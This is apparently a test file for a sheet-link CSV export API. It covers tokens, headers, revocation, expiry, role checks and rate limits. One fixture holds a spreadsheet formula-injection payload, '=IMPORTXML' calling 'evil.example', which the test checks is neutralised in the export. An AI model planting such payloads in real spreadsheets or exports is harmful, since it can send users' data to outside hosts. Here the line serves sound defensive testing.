import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  buildApiKey,
  buildMember,
  buildOrganization,
  type TestOrganization,
} from "../../../test/builders.ts";
import { follow } from "../../../test/downloads.ts";
import { buildProject } from "../../../test/project-builders.ts";
import { send } from "../../../test/request.ts";
import { startTestApp, type TestApp } from "../../../test/test-app.ts";
import { buildTrackedAccount, buildVideo, recordHistory } from "../../../test/tracking-builders.ts";
import { sql } from "../../infra/db/sql.ts";

let app: TestApp;
let organization: TestOrganization;
let apiKey: string;

beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.stop());
beforeEach(async () => {
  app.clock.set("2026-09-21T08:30:00.000Z");
  organization = await buildOrganization(app);
  apiKey = (await buildApiKey(organization)).secret;
});

async function make(fields: object = {}, key = apiKey) {
  const body = { kind: "videos", name: "Videos", ...fields };
  return send(app, "/api/v1/sheet-links", { method: "POST", apiKey: key, body });
}

async function listed() {
  return (await send(app, "/api/v1/sheet-links", { apiKey })).body.data;
}

describe("a sheet link", () => {
  it("answers the rows of the export to whoever holds it, and no formula among them", async () => {
    const account = await buildTrackedAccount(organization, { username: "juniper" });
    const video = await buildVideo(organization, account, {
      caption: '=IMPORTXML("https://evil.example","//x")',
      publishedAt: "2026-09-18T12:00:00.000Z",
    });
    await recordHistory(organization, video, [
      { at: "2026-09-18", viewCount: 10 },
      { at: "2026-09-20", viewCount: 30 },
    ]);
    const other = await buildOrganization(app);
    await buildVideo(other, await buildTrackedAccount(other));
    const { body: link } = await make();
    expect(link.formula).toBe(`=IMPORTDATA("${link.url}")`);
    const { status, headers, body } = await follow(app, link.url);
    expect(status).toBe(200);
    expect(Object.fromEntries(headers)).toMatchObject({
      "content-type": "text/csv; charset=utf-8; header=present",
      "cache-control": "private, no-store",
      "x-robots-tag": "noindex, nofollow",
      "referrer-policy": "no-referrer",
      "x-content-type-options": "nosniff",
    });
    const rows: Record<string, string>[] = parse(body, { columns: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ viewCount: "30", caption: expect.stringMatching(/^'=IMPORTXML/) });
    const { body: exported } = await send(app, "/api/v1/videos/export", {
      method: "POST",
      apiKey,
      body: {},
    });
    expect((await follow(app, exported.downloadUrl)).body).toBe(body);
    expect(await listed()).toMatchObject([
      { id: link.id, useCount: 1, lastUsedAt: "2026-09-21T08:30:00.000Z", state: "active" },
    ]);
    const { body: gains } = await make({ kind: "video_daily_gains", rangeDays: 2 });
    const days: Record<string, string>[] = parse((await follow(app, gains.url)).body, { columns: true });
    expect(days.map(({ date, viewsGained }) => [date, viewsGained])).toEqual([["2026-09-20", "20"]]);
    const { body: accounts } = await make({ kind: "accounts" });
    expect((await follow(app, accounts.url)).body).toContain("juniper");
  });

  it("has the gains of as many days as it says, with the present one", async () => {
    const video = await buildVideo(organization, await buildTrackedAccount(organization), {
      publishedAt: "2026-09-18T12:00:00.000Z",
    });
    await recordHistory(organization, video, [
      { at: "2026-09-18", viewCount: 10 },
      { at: "2026-09-19", viewCount: 12 },
      { at: "2026-09-20", viewCount: 15 },
      { at: "2026-09-21", viewCount: 19 },
    ]);
    const { body: link } = await make({ kind: "video_daily_gains", rangeDays: 2 });
    const gains: Record<string, string>[] = parse((await follow(app, link.url)).body, { columns: true });
    expect(gains.map(({ date, viewsGained }) => [date, viewsGained])).toEqual([
      ["2026-09-20", "3"],
      ["2026-09-21", "4"],
    ]);
  });

  it("shows what counts in its project alone, and ends with it", async () => {
    const account = await buildTrackedAccount(organization);
    await buildVideo(organization, account);
    const project = await buildProject(organization);
    const { body: link } = await make({ projectId: project.id });
    expect(parse((await follow(app, link.url)).body, { columns: true })).toEqual([]);
    await send(app, `/api/v1/projects/${project.id}`, { method: "DELETE", apiKey });
    expect((await follow(app, link.url)).status).toBe(404);
    const foreign = await buildProject(await buildOrganization(app));
    expect((await make({ projectId: foreign.id })).status).toBe(400);
  });

  it("is kept as a hash, and its token is shown once", async () => {
    const { body: link } = await make();
    const token = new URL(link.url).searchParams.get("token") ?? "";
    const rows = await app.services.db.rows(sql`
      select l::text as row from sheet_links l where organization_id = ${organization.id}`);
    const { body: activity } = await send(app, "/api/v1/activity", { apiKey });
    expect(JSON.stringify([rows, await listed(), activity])).not.toContain(token);
    expect(token).toHaveLength(43);
  });

  it.each<[string, (url: URL) => void]>([
    ["another token", (url) => url.searchParams.set("token", "A".repeat(43))],
    ["no token", (url) => url.searchParams.delete("token")],
    ["another file", (url) => (url.pathname = url.pathname.replace("videos.csv", "accounts.csv"))],
    ["another id", (url) => (url.pathname = url.pathname.replace(/orgsheet_\w+/, "orgsheet_4Rk8sVn1QwZp"))],
    ["a path below it", (url) => (url.pathname += "/more")],
    ["nothing but the prefix", (url) => (url.pathname = "/sheets/v1")],
  ])("is not found with %s", async (_what, change) => {
    const url = new URL((await make()).body.url);
    change(url);
    const { status, headers } = await follow(app, url.href);
    expect([status, headers.get("x-robots-tag")]).toEqual([404, "noindex, nofollow"]);
  });

  it("ends when it is revoked, and when it expires", async () => {
    const [revoked, expiring] = [(await make()).body, (await make({ expiresInDays: 1 })).body];
    const revoke = () => send(app, `/api/v1/sheet-links/${revoked.id}/revoke`, { method: "POST", apiKey });
    expect((await revoke()).body.state).toBe("revoked");
    expect((await revoke()).body.state).toBe("revoked");
    expect((await follow(app, revoked.url)).status).toBe(404);
    app.clock.advance(86_400_000 - 1);
    expect((await follow(app, expiring.url)).status).toBe(200);
    app.clock.advance(1);
    expect((await follow(app, expiring.url)).status).toBe(404);
    expect((await follow(app, expiring.url, { method: "POST" })).status).toBe(404);
  });

  it("ends when its maker becomes a viewer, or leaves", async () => {
    const member = await buildMember(app, organization, "member");
    const { body: link } = await make({}, (await buildApiKey(organization, member)).secret);
    expect((await follow(app, link.url)).status).toBe(200);
    const setRole = (role: string) =>
      app.services.db.execute(sql`
        update members set role = ${role} where organization_id = ${organization.id} and user_id = ${member.userId}`);
    await setRole("viewer");
    expect((await follow(app, link.url)).status).toBe(404);
    expect(await listed()).toMatchObject([{ state: "without_maker" }]);
    await setRole("member");
    expect((await follow(app, link.url)).status).toBe(200);
    await app.services.db.execute(sql`
      delete from members where organization_id = ${organization.id} and user_id = ${member.userId}`);
    expect((await follow(app, link.url)).status).toBe(404);
  });

  it("is one of a hundred at most, of which those that have ended are none", async () => {
    const many = await Promise.all(Array.from({ length: 99 }, () => make()));
    expect((await make({ expiresInDays: 1 })).status).toBe(200);
    expect((await make()).body.code).toBe("INVALID_STATE");
    const stranger = (await buildApiKey(await buildOrganization(app))).secret;
    expect((await make({}, stranger)).status).toBe(200);

    const path = `/api/v1/sheet-links/${many[0]?.body.id}/revoke`;
    expect((await send(app, path, { method: "POST", apiKey })).status).toBe(200);
    expect((await make()).status).toBe(200);
    app.clock.set("2026-09-22T08:29:59.999Z");
    expect((await make()).body.code).toBe("INVALID_STATE");
    app.clock.set("2026-09-22T08:30:00.000Z");
    expect((await make()).status).toBe(200);
    expect((await make()).body.code).toBe("INVALID_STATE");
  });

  it("answers so often in a minute, and is for members to make", async () => {
    const { body: link } = await make();
    const statuses = new Set<number>();
    for (let read = 0; read < 31; read += 1) statuses.add((await follow(app, link.url)).status);
    expect([...statuses]).toEqual([200, 429]);
    const viewer = await buildMember(app, organization, "viewer");
    expect((await make({}, (await buildApiKey(organization, viewer)).secret)).status).toBe(403);
    expect((await make({ rangeDays: 3 })).status).toBe(400);
  });
});
